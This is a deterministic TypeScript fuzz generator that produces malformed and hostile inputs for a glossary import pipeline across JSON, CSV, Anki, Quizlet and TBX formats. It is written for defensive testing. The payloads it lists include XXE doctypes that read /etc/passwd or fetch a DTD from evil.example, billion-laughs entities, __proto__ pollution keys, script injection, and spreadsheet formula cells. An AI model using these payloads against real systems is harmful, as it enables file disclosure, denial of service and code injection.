// Malformed and hostile inputs for the import pipeline, per format. Deterministic: the same
// seed gives the same cases. Each case is either a valid document broken by random text
// mutations (truncation, junk, lone surrogates, BOMs, repeated slices) or one of the
// structured attacks of its format (deep nesting, __proto__ keys, ragged rows, billion laughs,
// external entities, unclosed tags …).

import type { ImportOptions } from '../../lib/formats/types';

export const FUZZ_FORMATS = ['json', 'csv', 'anki', 'quizlet', 'tbx'] as const;
export type FuzzFormat = (typeof FUZZ_FORMATS)[number];

export interface FuzzCase {
  /** What the case is, for failure messages: "json/deep-nesting #17". */
  label: string;
  name: string;
  text: string;
  options?: ImportOptions;
}

/** mulberry32: small, fast, good enough to pick mutations. */
export class Random {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(max: number): number {
    return Math.floor(this.next() * max);
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)] as T;
  }

  chance(p: number): boolean {
    return this.next() < p;
  }
}

const HOSTILE_UNITS = [
  '"', "'", ',', ';', '|', '\t', '\n', '\r', '\r\n', '<', '>', '&', '&amp;', '&#0;', '&#xD800;', '&lol;', '\\', '\\u', '\\ud800', '{', '}', '[', ']', ':',
  '\u0000', '\u0001', '\u001f', '\ud800', '\udc00', '\ud83d', '\uFEFF', '\u202e', '\u00a0', '\u2028', '😀', 'ё', 'қ', '北', '=', '+', '-', '@', '#', '<!--', ']]>', '<![CDATA[',
];
const TERMS = ['Mazhilis', 'Сенат', 'Шал кет', 'Қаңтар', 'tenge', 'COVID-19', '北京', '😀 emoji', 'a "quoted" term', 'semi;colon', 'pi|pe', '<b>bold</b>', '=SUM(A1)', ' spaced ', 'Ёлка'];

function junk(r: Random, length: number): string {
  let s = '';
  while (s.length < length) s += r.pick(HOSTILE_UNITS);
  return s;
}

function entryTexts(r: Random, n: number): { term: string; short: string; tags: string[] }[] {
  return Array.from({ length: n }, (_, i) => ({
    term: `${r.pick(TERMS)}${r.chance(0.5) ? ` ${i}` : ''}`,
    short: r.chance(0.1) ? '' : `${r.pick(TERMS)} means ${junk(r, r.int(8))} thing ${i}`,
    tags: r.chance(0.5) ? [r.pick(['politics', 'place', 'x y', 'тег'])] : [],
  }));
}

// ---- Valid seed documents ------------------------------------------------------------------

function seedJson(r: Random): string {
  const entries = entryTexts(r, 1 + r.int(6)).map((e, i) => ({
    id: r.chance(0.1) ? 'dup' : `e${i}`,
    term: e.term,
    short: e.short || 's',
    ...(e.tags.length ? { tags: e.tags } : {}),
    ...(i > 0 && r.chance(0.3) ? { related: [`e${i - 1}`] } : {}),
  }));
  const pack = { format: 'gloss-pack', formatVersion: 1, id: 'fuzz', version: '1.0.0', title: 'Fuzz', language: 'en', entries };
  return JSON.stringify(pack, null, r.chance(0.5) ? 2 : 0);
}

function quoteCsv(cell: string): string {
  return /[",\n\r]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell;
}

function seedCsv(r: Random): string {
  const header = r.pick([['term', 'short', 'tags'], ['Термин', 'Определение', 'Теги'], ['Term', 'Definition', 'Variants'], ['Word', 'Meaning', 'Notes']]);
  const rows = entryTexts(r, 1 + r.int(8)).map((e) => [e.term, e.short, e.tags.join('; ')].map(quoteCsv).join(','));
  return [header.join(','), ...rows].join(r.pick(['\n', '\r\n']));
}

function seedAnki(r: Random): string {
  const lines = ['#separator:tab', `#html:${r.pick(['true', 'false'])}`, '#tags column:3'];
  for (const e of entryTexts(r, 1 + r.int(8))) lines.push([e.term, `${e.short}<br><div>${junk(r, r.int(5))}</div>`, e.tags.join(' ')].join('\t'));
  return lines.join('\n');
}

function seedQuizlet(r: Random): string {
  return entryTexts(r, 1 + r.int(8))
    .map((e) => `${e.term}\t${e.short}`)
    .join('\n');
}

function seedTbx(r: Random): string {
  // eslint-disable-next-line no-control-regex -- removing what XML cannot carry is the point
  const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/\u0000|\u0001|\u001f|\ud800|\udc00|\ud83d(?![\udc00-\udfff])/g, '');
  const concepts = entryTexts(r, 1 + r.int(5)).map(
    (e, i) =>
      `<termEntry id="c${i}"><descrip type="subjectField">${esc(e.tags[0] ?? 'x')}</descrip><langSet xml:lang="en"><descrip type="definition">${esc(e.short)}</descrip><tig><term>${esc(e.term)}</term><termNote type="administrativeStatus">${r.pick(['preferredTerm-admn-sts', 'deprecatedTerm-admn-sts'])}</termNote></tig></langSet></termEntry>`,
  );
  return `<?xml version="1.0"?>\n<martif type="TBX-Basic" xml:lang="en"><text><body>\n${concepts.join('\n')}\n</body></text></martif>\n`;
}

// ---- Text mutations that apply to any format -----------------------------------------------

type Mutation = (r: Random, s: string) => string;

const TEXT_MUTATIONS: readonly (readonly [string, Mutation])[] = [
  ['truncate', (r, s) => s.slice(0, r.int(s.length + 1))],
  ['junk', (r, s) => insert(s, r.int(s.length + 1), junk(r, 1 + r.int(20)))],
  ['delete', (r, s) => cut(s, r.int(s.length + 1), r.int(40))],
  ['repeat-slice', (r, s) => {
    const at = r.int(s.length + 1);
    return insert(s, at, s.slice(at, at + r.int(80)).repeat(1 + r.int(5)));
  }],
  ['lone-surrogate', (r, s) => insert(s, r.int(s.length + 1), r.pick(['\ud800', '\udc00', '\udbff', '\ud83d']))],
  ['bom', (r, s) => (r.chance(0.5) ? `\uFEFF${s}` : insert(s, r.int(s.length + 1), '\uFEFF'))],
  ['swap-lines', (r, s) => {
    const lines = s.split('\n');
    const a = r.int(lines.length);
    const b = r.int(lines.length);
    [lines[a], lines[b]] = [lines[b] as string, lines[a] as string];
    return lines.join('\n');
  }],
  ['huge-string', (r, s) => insert(s, r.int(s.length + 1), r.pick(['x', 'ж', '😀', ' ', '"']).repeat(10_000 + r.int(300_000)))],
  ['control-chars', (r, s) => s.replace(/ /g, () => (r.chance(0.1) ? r.pick(['\u0000', '\u0007', '\u001b', '\u007f']) : ' '))],
  ['line-endings', (r, s) => s.replace(/\n/g, r.pick(['\r', '\r\n', '\n\n', '\u2028']))],
];

function insert(s: string, at: number, what: string): string {
  return s.slice(0, at) + what + s.slice(at);
}

function cut(s: string, at: number, length: number): string {
  return s.slice(0, at) + s.slice(at + length);
}

// ---- Structured attacks per format ----------------------------------------------------------

type Builder = (r: Random) => Omit<FuzzCase, 'label' | 'name'> & { kind: string };

const PACK_HEAD = '"format":"gloss-pack","formatVersion":1,"id":"p","version":"1.0.0","title":"T"';

const JSON_ATTACKS: readonly Builder[] = [
  (r) => ({ kind: 'deep-nesting', text: `{${PACK_HEAD},"x":${'['.repeat(100 + r.int(200_000))}` }),
  (r) => ({ kind: 'deep-objects', text: `${'{"a":'.repeat(50 + r.int(50_000))}1${'}'.repeat(r.int(100))}` }),
  (r) => ({ kind: 'proto-keys', text: `{${PACK_HEAD},${r.pick(['"__proto__":{"polluted":1}', '"constructor":{"prototype":{"polluted":1}}', '"prototype":1'])},"entries":[{"__proto__":{"id":"x"},"id":"a","term":"A","short":"a"},{"id":"b","term":"B","short":"b","constructor":"x"}]}` }),
  (r) => ({ kind: 'wrong-types', text: `{${PACK_HEAD},"entries":${r.pick(['{}', '"x"', '1', 'null', '[1,2]', '[[]]', '[{"id":1,"term":[],"short":{}}]', '[{"id":"a","term":"A","short":"a","variants":"x"}]', '[{"id":"a","term":"A","short":"a","sources":[{"title":1,"url":null}]}]'])}}` }),
  (r) => ({ kind: 'top-level', text: r.pick(['[]', '"pack"', '1e999', 'null', 'true', '', ' ', '\uFEFF', '{}', '-0', '[{}]']) }),
  (r) => ({ kind: 'duplicate-ids', text: `{${PACK_HEAD},"entries":[${Array.from({ length: 2 + r.int(50) }, (_, i) => `{"id":"${r.chance(0.5) ? 'same' : `e${i}`}","term":"T${i}","short":"s","related":["same","e0","nowhere"]}`).join(',')}]}` }),
  (r) => ({ kind: 'duplicate-keys', text: `{${PACK_HEAD},"entries":[{"id":"a","id":"b","term":"A","short":"x","short":""}],"entries":[{"id":"c","term":"C","short":"c"}]}`.replace('"b"', r.pick(['"b"', '"B"', '1'])) }),
  (r) => ({ kind: 'escaped-surrogates', text: `{${PACK_HEAD},"entries":[{"id":"a","term":"${r.pick(['\\ud800', '\\udc00x', '\\ud83d\\ude00', '\\uDBFF\\uDBFF'])}","short":"s"}]}` }),
  (r) => ({ kind: 'huge-string', text: `{${PACK_HEAD},"entries":[{"id":"a","term":"A","short":"${'y'.repeat(1000 + r.int(500_000))}"}]}` }),
  (r) => ({ kind: 'many-entries', text: `{${PACK_HEAD},"entries":[${Array.from({ length: 1 + r.int(3000) }, (_, i) => `{"id":"e${i}","term":"T${i}","short":"${r.chance(0.1) ? '' : 's'}"}`).join(',')}]}` }),
  (r) => ({ kind: 'bad-numbers', text: `{${PACK_HEAD.replace('1,', `${r.pick(['1.0', '1e0', '01', '+1', '0x1', 'NaN', 'Infinity', '1e400'])},`)},"entries":[]}` }),
  (r) => ({ kind: 'bad-scope', text: `{${PACK_HEAD},"scope":{"sites":[${JSON.stringify(r.pick(['https://a:8/*', 'javascript:alert(1)', '*://*.*/*', '<all_urls> ', 'file:///etc/passwd', '', 'x'.repeat(400)]))}]},"entries":[{"id":"a","term":"A","short":"a"}]}` }),
];

function csvRow(r: Random, width: number): string {
  return Array.from({ length: width }, () => r.pick(['x', '"q"', '"un"closed', '"multi\nline"', '', 'a;b|c', '=1+1', "'=2", junk(r, 5), '"a""b"', ' "lead'])).join(r.pick([',', ';', '\t']));
}

const CSV_ATTACKS: readonly Builder[] = [
  (r) => ({ kind: 'ragged', text: `term,short,tags\n${Array.from({ length: 1 + r.int(20) }, () => csvRow(r, 1 + r.int(6))).join('\n')}` }),
  (r) => ({ kind: 'quotes', text: `term,short\n${Array.from({ length: 1 + r.int(10) }, () => `${r.pick(['"', '""', '"""', 'a"b', '"a"b"'])},${r.pick(['"x\n', 'y"', '"z""'])}`).join('\n')}` }),
  (r) => ({ kind: 'no-header', text: Array.from({ length: 1 + r.int(10) }, () => csvRow(r, 2)).join('\n') }),
  (r) => ({ kind: 'hostile-mapping', text: 'A,B,C\n1,2,3\n', options: { mapping: JSON.parse(r.pick(['{"__proto__":"term"}', '{"A":"constructor","B":"short"}', '{"A":"term","B":"toString"}', '{"A":"term","B":"short","C":"sources"}', '{"A":"term","A ":"short"}'])) } }),
  (r) => ({ kind: 'wide', text: `${Array.from({ length: 1 + r.int(2000) }, (_, i) => (i === 0 ? 'term' : `c${i}`)).join(',')}\n${csvRow(r, 50)}` }),
  (r) => ({ kind: 'header-only', text: r.pick(['term', 'term,short\n', '\n\n\n', '', ',,,', '"term', '\uFEFFterm,short\n\uFEFFx,y']) }),
  (r) => ({ kind: 'separator-option', text: seedCsv(r), options: { separator: r.pick(['', ';', '\t', '||', '"', '\n', 'ab', '.*']) } }),
  () => ({ kind: 'surrogate-cells', text: `term,short,variants\nA\ud800,b,c\nB,\udc00,d\nC,c,\ud83d;x` }),
  (r) => ({ kind: 'many-rows', text: `term,short\n${Array.from({ length: 1 + r.int(5000) }, (_, i) => `T${r.int(50)},s${i}`).join('\n')}` }),
];

const ANKI_ATTACKS: readonly Builder[] = [
  (r) => ({ kind: 'headers', text: `#separator:${r.pick(['tab', 'Comma', 'two', '', '\t', '"', 'semicolon'])}\n#html:${r.pick(['true', 'TRUE', 'no', ''])}\n#columns:${r.pick(['Front\tBack', 'a;b;c', '', 'Tags\tTags\tTags'])}\n#tags column:${r.pick(['3', '0', '-1', '9999', 'NaN', '1e3'])}\n#guid column:${r.pick(['1', 'x'])}\nA\tB\tC\n` }),
  (r) => ({ kind: 'html', text: `#separator:tab\n#html:true\n${r.pick(['<script>', '<b', '<a href="', '&#x110000;', '&#0;', '<!--', '<style>x', '<<<>>>', '<br/><br>', '[sound:', '<div>'.repeat(2000)])}\t${junk(r, 30)}\t\n` }),
  () => ({ kind: 'quoted', text: `#separator:tab\n"A\tB\t"C""\n"unclosed\tx\n` }),
  (r) => ({ kind: 'only-headers', text: r.pick(['#separator:tab\n', '#html:true', '#tags column:3\n\n\n', '#deck:x\n#notetype:y\n']) }),
];

const QUIZLET_ATTACKS: readonly Builder[] = [
  (r) => ({ kind: 'separators', text: seedQuizlet(r), options: { format: 'quizlet', separator: r.pick(['', '\t', ',', ' - ', '\n', ';', '.*', '$&']), rowSeparator: r.pick(['', '\n', ';', '\t', '\n\n', '--']) } }),
  (r) => ({ kind: 'no-separator', text: `${junk(r, 40)}\nno tab here\n\t\n\t\t\n`, options: { format: 'quizlet' } }),
  (r) => ({ kind: 'comma-guess', text: `a,b\nc,d,e\n${junk(r, 10)}`, options: { format: 'quizlet' } }),
  (r) => ({ kind: 'many-cards', text: Array.from({ length: 1 + r.int(5000) }, (_, i) => `T${r.int(40)}\tdef ${i}`).join('\n') }),
];

const ENTITY_DOCTYPES = [
  '<!DOCTYPE martif [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
  '<!DOCTYPE martif [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE martif [<!ENTITY xxe PUBLIC "-//x//EN" "https://evil.example/x">]>',
  '<!DOCTYPE martif [<!ENTITY % pe SYSTEM "https://evil.example/x.dtd"> %pe;]>',
  '<!DOCTYPE martif [ <!entity x "y"> ]>',
  '<!DOCTYPE martif SYSTEM "https://evil.example/x.dtd">',
  '<!DOCTYPE martif [<!ELEMENT martif ANY>]>',
];

const TBX_ATTACKS: readonly Builder[] = [
  (r) => ({ kind: 'entities', text: `<?xml version="1.0"?>\n${r.pick(ENTITY_DOCTYPES)}\n<martif type="TBX-Basic"><text><body><termEntry><langSet xml:lang="en"><tig><term>${r.pick(['&lol3;', '&xxe;', 'x', '&amp;'])}</term></tig></langSet></termEntry></body></text></martif>` }),
  (r) => ({ kind: 'deep-nesting', text: `<martif type="TBX-Basic">${'<termEntry>'.repeat(10 + r.int(100_000))}` }),
  (r) => ({ kind: 'unclosed', text: seedTbx(r).replace(/<\/(tig|langSet|termEntry|body)>/, '') }),
  (r) => ({ kind: 'mismatched', text: seedTbx(r).replace('</term>', '</terms>') }),
  (r) => ({ kind: 'bad-refs', text: `<martif type="TBX-Basic"><text><body><termEntry><langSet xml:lang="en"><tig><term>${r.pick(['&#0;', '&#xD800;', '&#x110000;', '&nbsp;', '&', '&#;', '&#x;', '&amp', '<![CDATA[x'])}</term></tig></langSet></termEntry></body></text></martif>` }),
  (r) => ({ kind: 'wrong-root', text: r.pick(['<html><script>alert(1)</script></html>', '<martif/><martif/>', 'text<martif/>', '<?xml version="1.0"?>', '', '<', '<tbx', '<tbx type="TBX-Basic"/>', '<a:tbx xmlns:a="x"><a:text/></a:tbx>']) }),
  (r) => ({ kind: 'attributes', text: `<martif type=${r.pick(['TBX-Basic', '"TBX-Basic', "'x'", '"a" type="b"'])} xml:lang="${junk(r, 5)}"><text><body><termEntry id="${r.pick(['gloss.Bad Id', 'gloss.ok', '__proto__', 'gloss.'])}"><langSet><tig><term>A</term></tig></langSet></termEntry></body></text></martif>` }),
  (r) => ({ kind: 'many-concepts', text: `<martif type="TBX-Basic"><text><body>${Array.from({ length: 1 + r.int(2000) }, (_, i) => `<termEntry id="c${r.int(10)}"><langSet xml:lang="en"><tig><term>T${r.int(30)}</term></tig><descrip type="definition">d${i}</descrip></langSet><ref type="crossReference" target="c${r.int(12)}">x</ref></termEntry>`).join('')}</body></text></martif>` }),
];

const FORMATS: Readonly<Record<FuzzFormat, { ext: string; seed: (r: Random) => string; attacks: readonly Builder[] }>> = {
  json: { ext: 'json', seed: seedJson, attacks: JSON_ATTACKS },
  csv: { ext: 'csv', seed: seedCsv, attacks: CSV_ATTACKS },
  anki: { ext: 'txt', seed: seedAnki, attacks: ANKI_ATTACKS },
  quizlet: { ext: 'txt', seed: seedQuizlet, attacks: QUIZLET_ATTACKS },
  tbx: { ext: 'tbx', seed: seedTbx, attacks: TBX_ATTACKS },
};

/** `count` cases for `format`: about a third structured attacks, the rest mutated documents. */
export function* fuzzCases(format: FuzzFormat, count: number, seed: number): Generator<FuzzCase> {
  const r = new Random(seed ^ (FUZZ_FORMATS.indexOf(format) * 0x9e3779b9));
  const spec = FORMATS[format];
  for (let i = 0; i < count; i++) {
    const name = r.chance(0.05) ? r.pick(['', 'noext', '.hidden', `a.${spec.ext}.exe`, `${'x'.repeat(300)}.${spec.ext}`]) : `case-${i}.${spec.ext}`;
    if (r.chance(0.35)) {
      const { kind, ...rest } = r.pick(spec.attacks)(r);
      yield { label: `${format}/${kind} #${i}`, name: name || `case-${i}.${spec.ext}`, ...rest };
      continue;
    }
    let text = spec.seed(r);
    const applied: string[] = [];
    const steps = r.int(4);
    for (let k = 0; k < steps; k++) {
      const [label, mutate] = r.pick(TEXT_MUTATIONS.filter(([l]) => l !== 'huge-string' || r.chance(0.1)));
      text = mutate(r, text);
      applied.push(label);
    }
    yield { label: `${format}/${applied.join('+') || 'valid'} #${i}`, name, text };
  }
}
